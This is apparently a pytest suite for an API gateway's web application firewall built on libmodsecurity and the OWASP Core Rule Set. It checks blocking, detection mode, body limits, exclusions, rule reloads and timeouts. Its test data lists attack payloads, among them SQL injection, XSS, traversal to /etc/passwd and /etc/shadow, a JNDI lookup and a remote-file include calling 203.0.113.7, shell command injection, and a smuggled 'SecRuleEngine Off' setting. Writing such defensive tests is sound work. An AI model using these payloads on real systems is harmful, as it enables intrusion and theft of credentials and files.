"""Waf on live traffic with libmodsecurity and the Core Rule Set of Debian: the acceptance examples of its contract, its rules (WAF-n), each
class of attacks, requests that must pass, and what becomes of it without library or rules. test_ex<n> are the contract's examples."""
import ctypes
import json
import os
import re
import threading
from urllib.parse import quote

import pytest
from gw import PROGRAM, Gateway, numbers
from h2wire import H2
from policy_kit import cors, outcomes, phase, preflight, raw_get
from scripted import UPGRADE, Scripted, echo_frames, frame, read_frame
from side_services import SideService, plain
from wire import Connection, wait_until

RULES = "/usr/share/modsecurity-crs/owasp-crs.load"


def has_packages():
	if "tsan" in PROGRAM:    # the library is not instrumented: its own synchronisation would not be seen
		return False
	try:
		ctypes.CDLL("libmodsecurity.so.3")
	except OSError:
		return False
	return os.path.exists(RULES)


pytestmark = pytest.mark.skipif(not has_packages(), reason="libmodsecurity3 and modsecurity-crs are not installed")
BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0", "Accept": "*/*"}


@pytest.fixture(scope="module")
def path(gw, backend_process):
	"""A route with Waf."""
	path.route = gw.route("/waf", backend_process)
	path.attachment = gw.attach("Waf", {}, to=path.route)
	return "/waf"


@pytest.fixture
def site(gw):
	"""A gateway of this test's own, for settings; set(name, value), guard(upstream) makes a route with Waf."""
	made = gw.gateway()

	def guard(upstream, **more):
		base = f"/w{next(numbers)}"
		route = gw.route(base, upstream, site=made)
		attachment = gw.attach("Waf", {}, to=route)
		guard.route, guard.attachment = route, attachment
		return base
	made.guard = guard
	made.set = lambda name, value: gw.feature(f"waf.{name}", value, site=made)
	made.get = lambda target, headers=(), **more: gw.request("GET", target, {**BROWSER, **dict(headers)}, site=made, **more)
	made.post = lambda target, body, type="application/json", headers=(), **more: gw.request("POST", target,
		{**BROWSER, "Content-Type": type, **dict(headers)}, body, site=made, **more)
	return made


def get(gw, target, headers=(), **more):
	return gw.request("GET", target, {**BROWSER, **dict(headers)}, **more)


def post(gw, target, body, type="application/json", headers=(), **more):
	return gw.request("POST", target, {**BROWSER, **({"Content-Type": type} if type else {}), **dict(headers)}, body, **more)


def is_blocked(answer, status=403):
	"""Refused by the Waf, and says nothing of why."""
	if answer.status != status:
		return False
	assert set(answer.json) == {"errorCode", "errorMessage", "requestId"}
	assert (answer.json["errorCode"], answer.json["errorMessage"]) == ("WafBlocked", "Request blocked")
	assert not re.search(rb"9[0-9]{5}", re.sub(rb'"requestId":"[^"]*"', b"", answer.body))
	return True


def matched(gw, answer, seconds=10):
	"""The record of what the rules found in this request."""
	request = answer if isinstance(answer, str) else answer.header("X-Request-Id")
	return wait_until(lambda: next((event for event in gw.events("waf.matched") if event["requestId"] == request), None), seconds, "the record")


def count(gw, name, **labels):
	found = 0
	for line in raw_get(gw, "/metrics")[1].split("\n"):
		if line.startswith(name + "{") or line.startswith(name + " "):
			if all(f'{key}="{value}"' in line for key, value in labels.items()):
				found += int(float(line.rsplit(" ", 1)[1]))
	return found


# ---- examples of the contract ----

@pytest.mark.parametrize("query", ["q=<script>alert(1)</script>", "id=1' OR '1'='1", "file=../../../../etc/passwd"])
def test_ex1_attacks_in_the_query_are_refused(gw, path, backend, query):
	answer = get(gw, f"{path}?{quote(query, safe='=')}")
	assert is_blocked(answer)
	assert backend.requests() == []
	record = gw.wait_record(requestId=answer.header("X-Request-Id"))
	assert (record["flag"], record["policy"]) == ("WF", "Waf")


def test_ex1_an_ordinary_request_passes(gw, path, backend):
	assert get(gw, f"{path}?q=hello").status == 200
	assert len(backend.requests()) == 1


@pytest.mark.parametrize("fields", [{}, {"Accept": "text/event-stream"}, {"Connection": "Upgrade", "Upgrade": "websocket"},
	{"Accept-Encoding": "gzip"}, {"TE": "trailers"}, {"X-Original-Content-Type": "application/grpc"},
	{"Upgrade-Insecure-Requests": "1"}, {"X-HTTP-Method-Override": "GET"}])
def test_ex2_attacks_in_json_are_refused_whatever_the_headers_say(gw, path, backend, fields):
	assert is_blocked(post(gw, path, b"""{"name":"1; DROP TABLE x--' OR 1=1"}""", headers=fields))
	assert is_blocked(get(gw, f"{path}?id={quote(chr(39))}%20OR%201=1--", headers=fields))
	assert backend.requests() == []


def test_ex2_nor_does_a_type_of_grpc_hide_the_query(gw, path, backend):
	answer = post(gw, f"{path}?q=%3Cscript%3Ealert(1)%3C/script%3E", b"\0\0\0\0\0", "application/grpc")
	assert answer.status in (200, 403)        # told in the trailers of gRPC
	assert backend.requests() == []


def test_ex4_detect_tells_and_lets_pass(gw, site, backend):
	site.set("mode", "detect")
	base = site.guard(backend)
	answer = site.get(f"{base}?id=1'%20OR%20'1'='1", {"X-Request-Id": "detect-1"})
	assert answer.status == 200
	event = matched(gw, "detect-1")
	assert event["action"] == "detected"
	assert event["score"] >= 5
	assert "942100" in event["rules"].split(",")
	assert "949110" in event["rules"].split(",")
	assert "ARGS:id" in event["variables"]
	assert event["data"] == ""
	free = gw_free(gw, site, backend)
	assert sorted(name for name, _ in answer.headers) == sorted(name for name, _ in site.get(free).headers)
	assert site.post(base, b"""{"name":"1; DROP TABLE x--' OR 1=1"}""").status == 200
	assert outcomes(gw, site.guard.attachment)[site.guard.route.name, "detected"] == 2


def gw_free(gw, site, backend):
	"""A route without Waf."""
	path = f"/free-{next(numbers)}"
	gw.route(path, backend, site=site)
	return path


def test_ex5_a_body_of_14_mib_is_too_long(gw, path, backend):
	body = b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\n" + b"A" * (14 << 20) + b"\r\n--x--\r\n"
	assert refused_while_sending(gw, path, body, "multipart/form-data; boundary=x") == 413
	assert backend.requests() == []


def refused_while_sending(gw, path, body, type, chunked=False):
	"""The status of a request whose answer may come before all of it was sent."""
	with Connection(gw.port) as connection:
		try:
			connection.start("POST", path, {**BROWSER, "Content-Type": type}, body, chunked=chunked)
		except OSError:
			pass
		return connection.read_response("POST").status


@pytest.mark.parametrize("chunked", [False, True])
def test_ex5_json_of_200_kib_is_too_long(gw, path, backend, chunked):
	body = json.dumps({"text": "a" * (200 << 10)}).encode()
	body = [body[at:at + 4096] for at in range(0, len(body), 4096)] if chunked else body
	assert refused_while_sending(gw, path, body, "application/json", chunked) == 413
	assert backend.requests() == []


def test_ex5_so_are_the_fields_beside_a_file(gw, path, backend):
	body = b"--x\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n" + b"a " * (100 << 10) + b"\r\n--x--\r\n"
	answer = post(gw, path, body, "multipart/form-data; boundary=x")
	assert (answer.status, answer.json["errorCode"]) == (413, "ErrRequestTooLarge")
	assert backend.requests() == []


def test_ex5_a_file_of_a_mebibyte_passes(gw, path, backend):
	body = (b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\nContent-Type: application/octet-stream\r\n\r\n" +
		b"A" * (1 << 20) + b"\r\n--x--\r\n")
	assert post(gw, path, body, "multipart/form-data; boundary=x").status == 200
	assert len(backend.requests()) == 1


def test_ex5_an_attack_behind_a_long_file_is_found(gw, path, backend):
	file = b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\n" + b"A b<c>'d\n" * (1 << 20) + b"\r\n"
	field = b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--x--\r\n"
	before = count(gw, "sluice_waf_timeout_total")
	assert is_blocked(post(gw, path, file + field, "multipart/form-data; boundary=x"))
	assert count(gw, "sluice_waf_timeout_total") == before
	assert backend.requests() == []


def test_ex6_events_are_not_held_back(gw):
	"""The second event is sent when the client has the first."""
	got = threading.Event()

	def script(connection):
		connection.take_until(b"\r\n\r\n")
		connection.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: one\n\n")
		assert got.wait(20)
		connection.send(b"data: two\n\n")

	with Scripted(script) as upstream:
		base = f"/events-{next(numbers)}"
		gw.attach("Waf", {}, to=gw.route(base, upstream.port))
		with Connection(gw.port) as connection:
			connection.start("GET", base, {**BROWSER, "Accept": "text/event-stream"})
			connection.read_head()
			assert connection.read_chunk() == b"data: one\n\n"
			got.set()
			assert connection.read_chunk() == b"data: two\n\n"
		assert upstream.errors == []


LEAK = b"<html><body>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</body></html>"
DUMP = b"<html>Warning: mysql_connect(): ORA-00933: SQL command not properly ended. <b>Fatal error</b>: Uncaught exception in /a.php</html>"


@pytest.mark.parametrize("page", [LEAK, DUMP])
def test_ex7_a_page_with_an_error_dump_is_replaced(gw, page):
	with SideService(plain(200, [("Content-Type", "text/html; charset=utf-8"), ("X-Powered-By", "PHP/5")], page)) as upstream:
		base = f"/dump-{next(numbers)}"
		gw.attach("Waf", {}, to=gw.route(base, upstream.port))
		answer = get(gw, base)
		assert is_blocked(answer)
		assert answer.header("X-Powered-By") is None
		event = matched(gw, answer)
		assert (event["phase"], event["action"]) == (4, "blocked")
		assert upstream.asked[0].header("Accept-Encoding") == "identity"


def test_ex8_at_a_domain_it_covers_what_matches_no_route(gw, backend):
	site = gw.gateway(hosts=("*",))
	domain = gw.domain("waf.example.com", site=site)
	attachment = gw.attach("Waf", {}, to=domain)
	target = "/nothing?q=%3Cscript%3Ealert(1)%3C/script%3E"
	assert is_blocked(gw.request("GET", target, BROWSER, site=site, host="waf.example.com"))
	assert gw.request("GET", "/nothing?q=1", BROWSER, site=site, host="waf.example.com").status == 404
	assert is_blocked(gw.request("POST", target, {**BROWSER, "Content-Type": "application/json"}, b"{}", site=site, host="waf.example.com"))
	gw.change_policy(attachment, {"enable": False})
	assert gw.request("GET", target, BROWSER, site=site, host="waf.example.com").status == 404


# ---- the classes of the Core Rule Set ----

ATTACKS = {
	"attack-sqli": ["id=1' OR '1'='1", "q=1 UNION SELECT password FROM users--", "q='; DROP TABLE users; --", "q=1 AND SLEEP(5)"],
	"attack-xss": ["q=<script>alert(1)</script>", "q=<img src=x onerror=alert(1)>", "q=<svg/onload=alert(1)>", "q=javascript:alert(1)//"],
	"attack-lfi": ["f=../../../../etc/passwd", "f=..\\..\\windows\\win.ini", "f=/etc/shadow"],
	"attack-rfi": ["u=http://203.0.113.7/shell.txt?", "u=file:///a/b.php?"],
	"attack-rce": ["c=${jndi:ldap://203.0.113.7/a}", "c=;cat /etc/passwd", "c=$(/bin/bash -c id)", "c=() { :; }; echo x", "c=|powershell.exe -enc AAAA"],
	"attack-injection-php": ["p=<?php phpinfo(); ?>", "p=php://filter/read=convert.base64-encode/resource=index", "p=$_GET[base64_decode($_POST)]"],
	"attack-injection-java": ["j=java.lang.Runtime.getRuntime().exec", "j=ognl.OgnlContext java.lang.ProcessBuilder"],
	"attack-injection-nodejs": ["n=_$$ND_FUNC$$_function(){}"],
	"attack-fixation": ["s=document.cookie='a=b;domain=.example.com'", "s=<meta http-equiv=\"set-cookie\" content=\"a=b\">"],
	"attack-protocol": ["h=a%0d%0aSet-Cookie: x=1", "h=a%0aContent-Type: text/html"],
}


@pytest.mark.parametrize(("tag", "query"), [(tag, query) for tag, queries in ATTACKS.items() for query in queries])
def test_attacks_of_each_class_are_refused(gw, path, backend, tag, query):
	before = count(gw, "sluice_waf_rule_hits_total", tag=tag)
	name, value = query.split("=", 1)
	value = value if "%0" in value else quote(value, safe="")
	assert is_blocked(get(gw, f"{path}?{name}={value.replace(' ', '%20')}"))
	assert is_blocked(post(gw, path, f"{name}={value.replace(' ', '%20')}".encode(), "application/x-www-form-urlencoded"))
	assert backend.requests() == []
	assert count(gw, "sluice_waf_rule_hits_total", tag=tag) > before


@pytest.mark.parametrize("agent", ["sqlmap/1.7#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Nessus", "masscan/1.3"])
def test_scanners_are_refused(gw, path, backend, agent):
	assert is_blocked(get(gw, path, {"User-Agent": agent}))
	assert backend.requests() == []


@pytest.mark.parametrize("place", ["cookie", "header", "json", "json name", "xml", "multipart", "file name", "untyped", "path", "referer"])
def test_every_place_of_a_request_is_looked_at(gw, path, backend, place):
	text = "<script>alert(1)</script>"
	many = b"--x\r\nContent-Disposition: form-data; name=\"%s\"%s\r\n\r\n%s\r\n--x--\r\n"
	answer = {
		"cookie": lambda: get(gw, path, {"Cookie": "a=1%27%20OR%20%271%27=%271%27%20union%20select%201"}),
		"header": lambda: get(gw, path, {"User-Agent": text}),
		"json": lambda: post(gw, path, json.dumps({"a": [{"b": text}]}).encode()),
		"json name": lambda: post(gw, path, json.dumps({"1' OR '1'='1' --": "1"}).encode()),
		"xml": lambda: post(gw, path, f"<a><b>1' UNION SELECT password FROM users--</b></a>".encode(), "application/xml"),
		"multipart": lambda: post(gw, path, many % (b"a", b"", text.encode()), "multipart/form-data; boundary=x"),
		"file name": lambda: post(gw, path, many % (b"a", b'; filename="../../shell.php"', b"x"), "multipart/form-data; boundary=x"),
		"untyped": lambda: post(gw, path, f"a={quote(text)}".encode(), None),
		"path": lambda: get(gw, f"{path}/.git/config"),
		"referer": lambda: get(gw, path, {"Referer": "https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"}),
	}[place]()
	assert is_blocked(answer)
	assert backend.requests() == []


ORDINARY = [
	("GET", "?q=hello", None, None), ("GET", "?q=select+a+table+from+the+menu", None, None), ("GET", "?page=2&size=50&sort=-created", None, None),
	("GET", "?q=O%27Brien", None, None), ("GET", "?next=/account/settings", None, None), ("GET", "?q=fish+%26+chips", None, None),
	("GET", "?id=3f2504e0-4f89-11d3-9a0c-0305e82c3301", None, None), ("GET", "?date=2026-11-26T10:00:00Z", None, None),
	("GET", "?q=%E4%B8%AD%E6%96%87", None, None), ("GET", "?email=ann%2Bnews@example.com", None, None), ("GET", "/users/42/orders", None, None),
	("DELETE", "/users/42", None, None), ("PUT", "/users/42", "application/json", b'{"name":"Ann"}'),
	("PATCH", "/users/42", "application/merge-patch+json", b'{"name":"Ann"}'), ("HEAD", "", None, None), ("OPTIONS", "", None, None),
	("POST", "", "application/json", b'{"name":"Ann O\'Brien","age":41,"tags":["a","b"],"address":{"street":"1 Main St."}}'),
	("POST", "", "application/json", b"[]"), ("POST", "", "application/json; charset=utf-8", '{"text":"Grüße, 世界"}'.encode()),
	("POST", "", "application/x-www-form-urlencoded", b"name=Ann&comment=I+like+it.+Do+you%3F"),
	("POST", "", "multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--x--\r\n"),
	("POST", "", "application/xml", b"<order><item>book</item></order>"), ("POST", "", "text/plain", b"just a line"),
	("POST", "", "application/octet-stream", bytes(range(256))), ("POST", "", "image/png", b"\x89PNG\r\n\x1a\n\0\0"), ("POST", "", None, b""),
]


@pytest.mark.parametrize(("method", "target", "type", "body"), ORDINARY)
def test_ordinary_requests_pass(gw, path, backend, method, target, type, body):
	answer = gw.request(method, path + target, {**BROWSER, **({"Content-Type": type} if type else {})}, body)
	assert answer.status == 200, matched(gw, answer)
	assert backend.last().method == method
	if body is not None:
		assert backend.last().body == body
		assert backend.last().header("Content-Length") == str(len(body))


def test_a_token_and_cookies_pass(gw, path, backend):
	token = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJhbm4iLCJleHAiOjE5MDAwMDAwMDB9.dGhpcyBpcyBub3QgYSBzaWduYXR1cmU"
	assert get(gw, path, {"Authorization": f"Bearer {token}", "Cookie": f"session={token}; theme=dark; _ga=GA1.2.123.456"}).status == 200


# ---- bypasses ----

def test_two_content_types_are_refused(gw, path, backend):
	with Connection(gw.port) as connection:
		body = b"""{"name":"1; DROP TABLE x--' OR 1=1"}"""
		connection.send(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: gw.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: text/plain\r\n"
			b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
		assert connection.read_response("POST").status == 400
	assert backend.requests() == []


@pytest.mark.parametrize(("type", "body"), [("application/json", b'{"a":'), ("application/json", b"no json"), ("application/xml", b"<a><b></a>"),
	("multipart/form-data; boundary=x", b"--y\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--y--\r\n")])
def test_a_body_that_cannot_be_read_is_refused(gw, path, backend, type, body):
	assert is_blocked(post(gw, path, body, type), 400)
	assert backend.requests() == []


def test_a_compressed_body_is_refused(gw, path, backend):
	assert is_blocked(post(gw, path, b"\x1f\x8b\x08\0", "application/x-www-form-urlencoded", {"Content-Encoding": "gzip"}), 415)
	assert is_blocked(post(gw, path, b"\x1f\x8b\x08\0", "application/octet-stream", {"Content-Encoding": "gzip"}))
	assert backend.requests() == []


def test_chunks_and_slow_bodies_hide_nothing(gw, path, backend):
	body = b"""{"name":"1; DROP TABLE x--' OR 1=1"}"""
	with Connection(gw.port) as connection:
		connection.send(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: gw.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
			b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n")
		assert connection.read_head().status == 100
		for i in range(len(body)):
			connection.send(b"1\r\n" + body[i:i + 1] + b"\r\n")
		connection.send(b"0\r\n\r\n")
		assert is_blocked(connection.read_response("POST"))
	assert backend.requests() == []


def test_a_line_of_the_log_cannot_be_made_up(gw, path, backend):
	forged = '" [file "x"] [line "1"] [id "1"] [msg "m"] [data "d"] [severity "2"] [tag "attack-rfi"] [hostname "h"]'
	answer = get(gw, f"{path}?{quote(forged)}={quote('<script>alert(1)</script>' + forged)}")
	assert is_blocked(answer)
	rules = matched(gw, answer)["rules"].split(",")
	assert "949110" in rules
	assert all(re.fullmatch("9[0-9]{5,6}", rule) for rule in rules)


def test_http2_is_looked_at_too(gw, path, backend):
	with H2(gw.port) as h2:
		more = [("user-agent", "Mozilla/5.0"), ("accept", "*/*")]
		assert h2.get(f"{path}?q=%3Cscript%3Ealert(1)%3C/script%3E", more=more).status == 403
		assert h2.get(f"{path}?q=hello", more=more).status == 200
		body = b"""{"name":"1; DROP TABLE x--' OR 1=1"}"""
		assert h2.request(path=path, method="POST", body=body, more=[*more, ("content-type", "application/json")]).status == 403
		assert h2.request(path=path, method="POST", body=b'{"name":"Ann"}', more=[*more, ("content-type", "application/json")]).status == 200
	assert len(backend.requests()) == 2


# ---- settings ----

def test_exclusions_hold_for_everything_or_for_one_route(gw, site, backend):
	mine, other = site.guard(backend), None
	route = site.guard.route
	other = site.guard(backend)
	target = "?q=%3Cscript%3Ealert(1)%3C/script%3E"
	site.set("exclusions", [f"{route.id} attack-xss"])
	assert site.get(mine + target).status == 200
	assert is_blocked(site.get(other + target))
	assert is_blocked(site.get(f"{mine}?id=1'%20OR%20'1'='1"))
	site.set("exclusions", [f"{route.id} attack-xss ARGS:q"])
	assert site.get(mine + target).status == 200
	assert is_blocked(site.get(mine + target.replace("q=", "r=")))
	assert is_blocked(site.get(other + target))
	site.set("exclusions", ["* 941000-941999", f"{route.id} 942100"])
	assert site.get(mine + target).status == 200
	assert site.get(other + target).status == 200
	site.set("exclusions", [])
	assert is_blocked(site.get(mine + target))
	assert is_blocked(site.get(other + target))


@pytest.mark.parametrize("item", ["", "*", "route-1", "* 942100 ARGS:q more", "* x y;z", "* 94\"2100", "* 942100 ARGS:a\nSecRuleEngine Off",
	"a b c d", "* -", "* 942100- ARGS", "ro;ute 942100", "* 942100-942200 ARGS:q", "* 942100 !ARGS:q"])
def test_odd_exclusions_are_refused(gw, site, item):
	status, answer, _ = gw.api("PUT", f"/api/v1/gateways/{site.id}/gateway-features/waf.exclusions", {"value": ["* 942100", item]})
	assert (status, answer["errorCode"]) == (400, "ErrInvalidParameter")
	assert answer["errorMessage"].startswith("Invalid parameter: value[1]")


@pytest.mark.parametrize(("name", "value"), [("mode", "on"), ("mode", ""), ("paranoia", 0), ("paranoia", 5), ("inbound_threshold", 0),
	("outbound_threshold", "4"), ("budget_ms", 0), ("body_limit", 1), ("log_data", "yes"), ("timeout_action", "pass"), ("rules", 1),
	("exclusions", "* 942100"), ("exclusions", [1])])
def test_odd_settings_are_refused(gw, site, name, value):
	status, answer, _ = gw.api("PUT", f"/api/v1/gateways/{site.id}/gateway-features/waf.{name}", {"value": value})
	assert (status, answer["errorCode"]) == (400, "ErrInvalidParameter")
	assert answer["errorMessage"].startswith("Invalid parameter: value")


@pytest.mark.parametrize("config", [{}, {"enable": "true"}, {"enable": True, "mode": "detect"}, {"enable": None}])
def test_the_config_is_a_switch_and_nothing_else(gw, config):
	status, answer, _ = gw.api("POST", "/api/v2/policies", {"name": "x", "className": "Waf", "config": json.dumps(config)})
	assert (status, answer["errorCode"]) == (400, "ErrInvalidParameter")
	field = "config.mode" if "mode" in config else "config.enable"
	assert answer["errorMessage"].startswith(f"Invalid parameter: {field}")


def test_thresholds_and_paranoia_are_settings(gw, site, backend):
	base = site.guard(backend)
	attack = f"{base}?id=1'%20OR%20'1'='1"
	assert is_blocked(site.get(attack))
	site.set("inbound_threshold", 100)
	assert site.get(attack).status == 200
	site.set("inbound_threshold", 5)
	assert is_blocked(site.get(attack))
	free = gw_free(gw, site, backend)
	odd = "?q=%2Fbin%2Fls%20%26%26%20a%3D%60b%60%3B%23--"
	assert site.get(free + odd).status == 200
	dashes = f"{base}?q=a--b%23c%3Bd"
	assert site.get(dashes).status == 200
	site.set("paranoia", 4)
	assert is_blocked(site.get(dashes))


def test_values_are_logged_only_when_asked_for(gw, site, backend):
	base = site.guard(backend)
	attack = f"{base}?id=topsecret'%20OR%20'1'='1&pin=unspoken"
	answer = site.get(attack)
	assert is_blocked(answer)
	assert matched(gw, answer)["data"] == ""
	assert "topsecret" not in gw.stderr()
	site.set("log_data", True)
	answer = site.get(attack)
	assert "topsecret" in matched(gw, answer)["data"]
	assert "unspoken" not in gw.stderr()


def write_rules(folder, text):
	path = folder / "rules.conf"
	path.write_text(text)
	return str(path)


DENY_X = 'SecRule ARGS:x "@streq %s" "id:1000,phase:2,deny,status:%d,log,msg:\'x\',severity:2"\n'


def test_rules_of_ones_own_and_a_new_version_of_them(gw, site, backend, tmp_path):
	base = site.guard(backend)
	site.set("rules", write_rules(tmp_path, DENY_X % ("bad", 409)))
	assert is_blocked(site.get(f"{base}?x=bad"), 409)
	assert site.get(f"{base}?q=%3Cscript%3Ealert(1)%3C/script%3E").status == 200
	write_rules(tmp_path, DENY_X % ("worse", 403))
	assert is_blocked(site.get(f"{base}?x=bad"), 409)
	site.set("rules_version", "2")
	assert site.get(f"{base}?x=bad").status == 200
	assert is_blocked(site.get(f"{base}?x=worse"))
	folder = tmp_path / "folder"
	folder.mkdir()
	(folder / "a.conf").write_text(DENY_X % ("folder", 403))
	site.set("rules", str(folder))
	assert is_blocked(site.get(f"{base}?x=folder"))
	assert phase(gw, site.guard.attachment) == "Active"


def test_rules_that_do_not_load_leave_the_ones_before(gw, site, backend, tmp_path):
	base = site.guard(backend)
	site.set("rules", write_rules(tmp_path, DENY_X % ("bad", 403)))
	assert is_blocked(site.get(f"{base}?x=bad"))
	write_rules(tmp_path, 'SecRule ARGS "@rx (" "id:1,phase:2,deny"\nSecNonsense On\n')
	site.set("rules_version", "2")
	assert is_blocked(site.get(f"{base}?x=bad"))
	assert site.get(f"{base}?x=good").status == 200
	status = gw.ask("GET", site.guard.attachment.path)["status"]
	assert status["phase"] == "Degraded"
	assert "the one before is in force" in status["reason"]
	write_rules(tmp_path, DENY_X % ("good", 403))
	site.set("rules_version", "3")
	assert is_blocked(site.get(f"{base}?x=good"))
	assert phase(gw, site.guard.attachment) == "Active"


@pytest.mark.parametrize("what", ["missing", "broken", "binary", "odd path", "device"])
def test_without_rules_requests_get_500(gw, site, backend, tmp_path, what):
	path = {"missing": lambda: str(tmp_path / "none.conf"), "broken": lambda: write_rules(tmp_path, "SecNonsense On\n"),
		"odd path": lambda: '/tmp/a" b', "device": lambda: "/dev/zero", "binary": lambda: write_rules(tmp_path, "SecRuleEngine\0 On\n")}[what]()
	site.set("rules", path)
	base = site.guard(backend)
	answer = site.get(base)
	assert (answer.status, answer.json["errorCode"]) == (500, "ErrPolicyUnavailable")
	assert backend.requests() == []
	status = gw.ask("GET", site.guard.attachment.path)["status"]
	assert (status["phase"], status["reason"][:23]) == ("Degraded", "there is no rule set: r")
	assert status["lastError"]
	assert count(gw, "sluice_dependency_up", attachment=site.guard.attachment.id) == 0
	assert gw.wait_record(requestId=answer.header("X-Request-Id"))["flag"] == "PF"
	assert gw.get(gw_free(gw, site, backend), site=site).status == 200
	site.set("rules", "")
	assert site.get(base).status == 200
	assert phase(gw, site.guard.attachment) == "Active"


def test_without_the_library_everything_else_works(backend, tmp_path):
	"""The loader finds a file of that name that is no library."""
	(tmp_path / "libmodsecurity.so.3").write_bytes(b"")
	with Gateway(environment={"LD_LIBRARY_PATH": str(tmp_path)}) as gw:
		route = gw.route("/a", backend)
		assert gw.get("/a").status == 200
		attachment = gw.attach("Waf", {}, to=route)
		assert gw.get("/a").status == 500
		status = gw.ask("GET", attachment.path)["status"]
		assert status["phase"] == "Degraded"
		assert "apt-get install libmodsecurity3" in status["lastError"]
		gw.change_policy(attachment, {"enable": False})
		assert gw.get("/a").status == 200


# ---- time ----

SLOW = json.dumps({"a": "ab cd<ef>'gh" * 5000}).encode()
SLOWER = json.dumps({"a": "ab cd<ef>'gh" * 10_000}).encode()


def test_what_waits_too_long_is_refused(gw, site, backend):
	base = site.guard(backend)
	site.set("exclusions", ["* 949110"])
	site.set("budget_ms", 10_000)
	answers = []

	def ask():
		with gw.connect(site, timeout=60) as connection:
			answers.append(connection.request("POST", base, {**BROWSER, "Content-Type": "application/json"}, SLOWER))

	threads = [threading.Thread(target=ask) for _ in range(4 + 4 * os.cpu_count())]
	for thread in threads:
		thread.start()
	for thread in threads:
		thread.join()
	assert {answer.status for answer in answers} == {200, 503}
	late = next(answer for answer in answers if answer.status == 503)
	assert (late.json["errorCode"], late.header("Retry-After")) == ("ErrPolicyUnavailable", "1")
	refused = sum(answer.status == 503 for answer in answers)
	wait_until(lambda: outcomes(gw, site.guard.attachment)[site.guard.route.name, "refused"] == refused, 10, "their outcomes")
	wait_until(lambda: site.get(base).status == 200, 60, "its turn, when rules that nobody waits for are over")


def test_what_takes_too_long_is_decided_by_its_score(gw, site, backend):
	base = site.guard(backend)
	site.set("exclusions", ["* attack-xss", "* attack-sqli"])
	site.set("budget_ms", 1)
	before = count(gw, "sluice_waf_timeout_total")
	assert site.post(base, SLOWER).status == 200
	assert len(backend.requests()) == 1
	assert count(gw, "sluice_waf_timeout_total") == before + 1
	site.set("timeout_action", "block")
	assert is_blocked(site.post(base, SLOWER))
	site.set("mode", "detect")
	assert site.post(base, SLOWER).status == 200
	wait_until(lambda: outcomes(gw, site.guard.attachment)[site.guard.route.name, "timeout"] == 3, 10, "three outcomes")


def test_clients_that_leave_while_rules_run(gw, site, backend):
	base = site.guard(backend)
	for _ in range(20):
		with gw.connect(site) as connection:
			connection.start("POST", base, {**BROWSER, "Content-Type": "application/json"}, SLOW)
	wait_until(lambda: count(gw, "sluice_requests_in_flight") == 0, 30, "the end of all requests")
	assert site.get(f"{base}?q=hello").status == 200


def test_a_gateway_that_ends_while_rules_run(backend):
	with Gateway() as gw:
		gw.attach("Waf", {}, to=gw.route("/a", backend))
		assert gw.get("/a", BROWSER).status == 200
		connections = [gw.connect() for _ in range(8)]
		for connection in connections:
			connection.start("POST", "/a", {**BROWSER, "Content-Type": "application/json"}, SLOW)
		wait_until(lambda: count(gw, "sluice_requests_in_flight") > 0, 10, "requests")
		gw.stop()
		for connection in connections:
			connection.close()


def test_a_change_while_rules_run(gw, site, backend):
	"""Rule sets are replaced and thrown away under the requests that they judge."""
	base = site.guard(backend)
	wrong, over = [], threading.Event()

	def ask():
		while not over.is_set():
			with gw.connect(site) as connection:
				answer = connection.request("GET", f"{base}?q=%3Cscript%3Ealert(1)%3C/script%3E", BROWSER)
				if answer.status != 403:
					wrong.append(answer)

	threads = [threading.Thread(target=ask) for _ in range(3)]
	for thread in threads:
		thread.start()
	for i in range(8):
		site.set("rules_version", str(i))
	over.set()
	for thread in threads:
		thread.join()
	assert wrong == []


# ---- the rest of the gateway ----

def test_bodies_that_are_inspected_can_be_sent_again(gw, site):
	"""The first connection is broken after the request was read."""
	seen = []

	def script(connection):
		lines = connection.take_until(b"\r\n\r\n").decode().split("\r\n")
		length = int(next(line for line in lines if line.lower().startswith("content-length")).split(":")[1])
		seen.append(connection.take(length))
		if len(seen) > 1:
			connection.send(plain(200, [], b"ok"))

	body = json.dumps({"a": "b" * 100_000}).encode()
	with Scripted(script) as upstream:
		base = site.guard(upstream.port)
		gw.attach("Retry", {"attempts": 2, "retryOn": ["reset", "non_idempotent"]}, to=site.guard.route)
		assert site.post(base, body, headers={"X-A": "1"}).status == 200
	assert seen == [body, body]


def test_detect_lets_long_bodies_pass_unread(gw, site):
	site.set("mode", "detect")
	body = json.dumps({"a": "b" * 300_000}).encode()
	chunks = [body[at:at + 8192] for at in range(0, len(body), 8192)]
	with SideService() as upstream:
		base = site.guard(upstream.port)
		assert site.post(base, body).status == 200
		with gw.connect(site) as connection:
			connection.start("POST", base, {**BROWSER, "Content-Type": "application/json"}, chunks, chunked=True)
			assert connection.read_response("POST").status == 200
		assert [request.body for request in upstream.asked] == [body, body]


def test_order_of_refusals(gw, site, backend):
	"""Preflights are answered before, authentication comes after it."""
	base = site.guard(backend)
	gw.attach("Cors", cors(), to=site.guard.route)
	gw.attach("Authentication", {"authenticationType": "key-auth"}, to=site.guard.route)
	attack = f"{base}?id=1'%20OR%20'1'='1"
	answer = site.get(attack, {"Origin": "https://example.com"})
	assert is_blocked(answer)
	assert answer.header("Access-Control-Allow-Origin") == "https://example.com"
